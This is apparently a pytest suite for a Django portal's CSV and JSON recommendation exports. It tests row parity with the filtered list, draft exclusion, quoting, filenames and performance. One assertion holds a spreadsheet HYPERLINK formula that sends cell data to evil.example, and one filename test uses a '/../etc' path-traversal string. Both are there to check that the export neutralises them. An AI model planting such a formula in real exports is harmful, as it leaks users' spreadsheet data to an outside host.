"""The exports hold exactly the rows of the list for the same query, all pages, on SQLite and PostgreSQL."""

import csv
import datetime
import io
import json
import re
import time
import tracemalloc

import pytest
from django.core.management import call_command
from django.db import connection
from django.db.models.functions import Length
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from gfmd_portal.publishing import Status
from recommendations.export import columns, streams, writers
from recommendations.models import Recommendation

from . import factories
from .export_data import build, content, csv_ids, csv_rows, list_ids

pytestmark = pytest.mark.django_db

FILTERS = [
    {},
    {"theme": "labour"},
    {"theme": ["labour", "climate"]},
    {"theme": "labour", "country": "PHL"},
    {"country": "MEX"},
    {"country": ["MEX", "PHL"], "theme": "trafficking"},
    {"year": "2018"},
    {"framework": "gcm", "actor": "states"},
    {"q": "border"},
    {"q": "border governance", "year": "2016"},
    {"sort": "-updated"},
    {"sort": "updated", "theme": "climate"},
]


@pytest.fixture
def data(db):
    return build()


@pytest.mark.parametrize("params", FILTERS, ids=lambda p: "&".join(f"{k}={v}" for k, v in p.items()) or "all")
def test_csv_and_json_hold_exactly_the_rows_of_the_list_in_its_order(client, data, params):
    expected = list_ids(client, params)
    assert expected, "every filter here matches some rows"
    assert csv_ids(client.get("/recommendations/export.csv", params)) == expected
    records = json.loads(content(client.get("/recommendations/export.json", params)))
    assert [record["id"] for record in records] == expected


def test_the_list_has_several_pages_so_the_export_is_not_one_page(client, data):
    response = client.get("/en/recommendations/")
    assert response.context["paginator"].num_pages > 1
    assert len(csv_ids(client.get("/recommendations/export.csv"))) == response.context["paginator"].count


def test_page_parameter_is_ignored(client, data):
    everything = csv_ids(client.get("/recommendations/export.csv", {"theme": "labour"}))
    assert csv_ids(client.get("/recommendations/export.csv", {"theme": "labour", "page": "2"})) == everything
    assert csv_ids(client.get("/recommendations/export.csv", {"theme": "labour", "page": "zzz"})) == everything


def test_drafts_and_draft_roundtables_never_appear(client, data):
    drafts = set(Recommendation.objects.filter(status=Status.DRAFT).values_list("pk", flat=True))
    drafts |= set(Recommendation.objects.filter(roundtable__status=Status.DRAFT).values_list("pk", flat=True))
    assert len(drafts) > 5
    for params in ({}, {"theme": "labour"}, {"country": "PHL"}, {"year": "2016"}, {"q": "Draft"}):
        exported = set(csv_ids(client.get("/recommendations/export.csv", params)))
        records = json.loads(content(client.get("/recommendations/export.json", params)))
        assert not exported & drafts
        assert not {r["id"] for r in records} & drafts
    body = content(client.get("/recommendations/export.csv")).decode()
    assert "Draft roundtable" not in body and "Not yet published" not in body


def test_draft_roundtable_slug_is_refused_not_ignored(client, data):
    response = client.get("/recommendations/export.csv", {"roundtable": "2016-3-3"})
    assert response.status_code == 400
    assert "roundtable" in response.content.decode()


def test_csv_header_columns_and_cells(client, data):
    rows = csv_rows(client.get("/recommendations/export.csv", {"year": "2018"}))
    assert rows[0] == list(columns.COLUMNS)
    contract = "id year session roundtable roundtable_title number text themes frameworks actors co_chairs"
    contract += " rapporteurs source_excerpt url updated_at"
    # The contract's columns first, in order; the alignment and follow-up columns appended after them.
    assert list(columns.COLUMNS) == [*contract.split(), "gcm_objectives", "sdg_targets", "progress", "follow_up_count"]
    first = dict(zip(rows[0], rows[1], strict=True))
    rec = Recommendation.objects.get(pk=first["id"])
    assert first["year"] == "2018" and first["session"] == "1" and first["roundtable"] == "2018-1-1"
    assert first["roundtable_title"] == "Labour mobility" and first["number"] == str(rec.number)
    # Themes by name (Alpha..., Middle..., Zeta...), not by slug; countries and organisations by name.
    assert first["themes"] == "; ".join(slug for name, slug in sorted((t.name, t.slug) for t in rec.themes.all()))
    assert first["co_chairs"] == "Philippines; International Organization for Migration (IOM)"
    assert first["rapporteurs"] == "'-Civil society, coordinated"
    assert first["url"] == f"http://testserver/en/recommendations/{rec.pk}/"
    assert first["updated_at"] == rec.updated_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_csv_is_utf8_with_rfc4180_quoting_and_no_bom_by_default(client, data):
    response = client.get("/recommendations/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = content(response)
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.startswith(b"id,year,session,roundtable,")
    text = body.decode("utf-8")
    assert "Ünïcödé: ça va, 移民, مهاجر — fine" in text
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1, ""Click"")"' in text
    assert '"says ""hello"", twice: ""hello"""' in text
    # Stored with LF line breaks, whichever way they came in (gfmd_portal.fields).
    assert '"line one\nline two\nline three"' in text


def test_bom_on_request(client, data):
    body = content(client.get("/recommendations/export.csv", {"bom": "1", "theme": "labour"}))
    assert body.startswith(b"\xef\xbb\xbfid,year,")
    assert body.count(b"\xef\xbb\xbf") == 1
    without = content(client.get("/recommendations/export.csv", {"theme": "labour"}))
    assert body == b"\xef\xbb\xbf" + without


def test_filename_is_dated_says_what_it_holds_and_is_safe(client, data):
    today = timezone.localdate().isoformat()
    plain = client.get("/recommendations/export.csv")
    assert plain["Content-Disposition"] == f'attachment; filename="gfmd-recommendations-{today}.csv"'
    content(plain)
    filtered = client.get(
        "/recommendations/export.json",
        {"theme": ["labour", "climate"], "country": "PHL", "page": "2", "sort": "updated"},
    )
    assert filtered["Content-Disposition"] == (
        f'attachment; filename="gfmd-recommendations-theme-labour_climate-country-phl-{today}.json"'
    )
    content(filtered)
    searched = client.get("/recommendations/export.csv", {"q": 'border "governance"/../etc'})
    filename = re.fullmatch(r'attachment; filename="([^"]+)"', searched["Content-Disposition"]).group(1)
    assert re.fullmatch(r"[a-z0-9_-]+\.csv", filename)
    assert filename == f"gfmd-recommendations-q-border-governance-etc-{today}.csv"
    content(searched)
    long = client.get("/recommendations/export.csv", {"q": "border " * 25})
    filename = re.fullmatch(r'attachment; filename="([^"]+)"', long["Content-Disposition"]).group(1)
    assert len(filename) < 140 and filename.endswith(f"-{today}.csv")
    content(long)


def test_excel_csv_downloads_under_its_own_file_name(client, data):
    """The byte-order-mark CSV is named `-excel`, so it never overwrites the plain CSV in Downloads."""
    today = timezone.localdate().isoformat()
    plain = client.get("/recommendations/export.csv", {"theme": "labour"})
    excel = client.get("/recommendations/export.csv", {"theme": "labour", "bom": "1"})
    assert plain["Content-Disposition"] == f'attachment; filename="gfmd-recommendations-theme-labour-{today}.csv"'
    assert excel["Content-Disposition"] == (
        f'attachment; filename="gfmd-recommendations-theme-labour-excel-{today}.csv"'
    )
    french = client.get("/recommendations/export.csv", {"bom": "1", "lang": "fr"})
    assert french["Content-Disposition"] == f'attachment; filename="gfmd-recommendations-fr-excel-{today}.csv"'
    assert content(excel).startswith(b"\xef\xbb\xbf") and not content(plain).startswith(b"\xef\xbb\xbf")
    content(french)


def test_json_is_an_array_of_objects_with_the_csv_fields(client, data):
    params = {"theme": "labour"}
    response = client.get("/recommendations/export.json", params)
    assert response["Content-Type"] == "application/json; charset=utf-8"
    records = json.loads(content(response))
    rows = csv_rows(client.get("/recommendations/export.csv", params))
    assert isinstance(records, list) and len(records) == len(rows) - 1
    for record, row in zip(records, rows[1:], strict=True):
        assert list(record) == list(columns.COLUMNS)
        for key in ("id", "year", "session", "number"):
            assert type(record[key]) is int
        for key in columns.LIST_COLUMNS:
            assert isinstance(record[key], list) and all(isinstance(v, str) for v in record[key])
        cells = dict(zip(rows[0], row, strict=True))
        for key, value in record.items():
            if key in columns.LIST_COLUMNS:
                value = "; ".join(value)
            # JSON keeps the values as they are; only CSV cells are neutralised.
            assert columns.restore(cells[key]) == str(value)


def test_json_of_nothing_is_an_empty_array(client, data):
    response = client.get("/recommendations/export.json", {"q": "no such words anywhere"})
    assert json.loads(content(response)) == []
    rows = csv_rows(client.get("/recommendations/export.csv", {"q": "no such words anywhere"}))
    assert rows == [list(columns.COLUMNS)]


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"theme": "nope"}, "theme"),
        ({"country": "XXX"}, "country"),
        ({"framework": "nope"}, "framework"),
        ({"actor": "nope"}, "actor"),
        ({"roundtable": "nope"}, "roundtable"),
        ({"year": "abc"}, "year"),
        ({"year": "1066"}, "year"),
        ({"sort": "sideways"}, "sort"),
        ({"q": "x" * 201}, "q"),
        ({"theme": ["labour", "nope"]}, "theme"),
    ],
)
@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
def test_invalid_filter_is_a_400_naming_the_parameter(client, data, params, parameter, path):
    response = client.get(path, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    body = response.content.decode()
    assert re.search(rf"^{parameter}: \S", body, re.MULTILINE)
    assert "Content-Disposition" not in response


@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
def test_export_query_count_does_not_grow_with_rows(client, path):
    rt = factories.roundtable("3.1")
    factories.role(rt, "PHL")
    labour = factories.theme("labour")
    factories.recommendation(rt, themes=[labour])

    def count():
        content(client.get(path))  # brings the stored lists up to date
        with CaptureQueriesContext(connection) as queries:
            body = content(client.get(path))
        return len(queries), body

    one, body = count()
    assert body.count(b"Recommendation text") == 1
    for _ in range(49):
        factories.recommendation(rt, themes=[labour])
    fifty, body = count()
    assert body.count(b"Recommendation text") == 50
    assert one == fifty
    # The stored lists' state, versions and log position; on SQLite the roundtables, their
    # titles and holders (two roles) put in a temporary table and dropped, and the lines.
    assert fifty <= 11


@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
def test_export_peak_memory_does_not_grow_with_rows(client, path):
    """tracemalloc's peak over a 3,100-row export, read slowly, stays within 2 MiB of a 100-row export's."""
    call_command("generate_synthetic", count=100, per_roundtable=100, stdout=io.StringIO())  # year 1991
    call_command("generate_synthetic", count=3000, per_roundtable=100, stdout=io.StringIO())  # 1992 onwards

    def peak(params):
        tracemalloc.start()
        try:
            tracemalloc.reset_peak()
            size = 0
            for chunk in client.get(path, params).streaming_content:
                if not size:
                    time.sleep(0.2)  # a slow client: PostgreSQL's COPY fills its queue meanwhile
                size += len(chunk)
            return tracemalloc.get_traced_memory()[1], size
        finally:
            tracemalloc.stop()

    peak({"year": "1991"})  # the first request imports and caches what every later one uses
    small, small_size = peak({"year": "1991"})
    large, large_size = peak({})
    assert large_size > 30 * small_size  # 3,100 rows of about 700 bytes against 100
    assert large - small < 2 * 1024 * 1024, (small, large)


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"theme": "trafficking-and-smuggling"},
        {"theme": "climate-and-disasters", "country": "PHL"},
        {"framework": "sdgs"},
    ],
)
def test_real_fixtures_export_the_rows_of_the_list(client, portal_data, params):
    expected = list_ids(client, params)
    assert expected
    assert csv_ids(client.get("/recommendations/export.csv", params)) == expected
    assert [r["id"] for r in json.loads(content(client.get("/recommendations/export.json", params)))] == expected


export_values = st.one_of(st.integers(min_value=0, max_value=2**53), st.text(), st.lists(st.text(), max_size=4))


@given(st.lists(export_values, min_size=len(columns.COLUMNS), max_size=len(columns.COLUMNS)))
def test_json_line_writes_what_json_dumps_writes(row):
    """The ORM path's fast JSON writer is json.dumps(ensure_ascii=False) of the record, for any values."""
    assert writers.json_line(row) == json.dumps(dict(zip(columns.COLUMNS, row, strict=True)), ensure_ascii=False)


def test_a_queryset_ordered_by_an_annotation_exports_in_that_order(data):
    """As a relevance sort will: order by a computed value that the export does not select."""
    queryset = Recommendation.objects.public().annotate(rank=Length("text") * -1).order_by("rank", "-pk")
    expected = list(queryset.values_list("pk", flat=True))
    body = b"".join(streams.csv_stream(queryset, "http://testserver"))
    assert [int(row[0]) for row in list(csv.reader(io.StringIO(body.decode(), newline="")))[1:]] == expected
    assert [r["id"] for r in json.loads(b"".join(streams.json_stream(queryset, "http://testserver")))] == expected


def test_head_request_sends_the_headers_without_running_the_export(client, data):
    with CaptureQueriesContext(connection) as queries:
        response = client.head("/recommendations/export.csv", {"theme": "labour"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="gfmd-recommendations-theme-labour-')
    assert not response.streaming  # nothing was started: a GET streams
    assert len(queries) <= 2  # the filter's own validation
    assert client.head("/recommendations/export.json", {"theme": "nope"}).status_code == 400


def test_the_readme_documents_every_export_column_in_order():
    from pathlib import Path

    from recommendations.export.columns import COLUMNS

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    table = readme.split("Columns, in this order", 1)[1].split("\n\n", 2)[1]
    documented = []
    for line in table.splitlines()[2:]:
        cell = line.split("|")[1]
        documented += [name.strip(" `") for name in cell.split(",")]
    assert documented == list(COLUMNS)
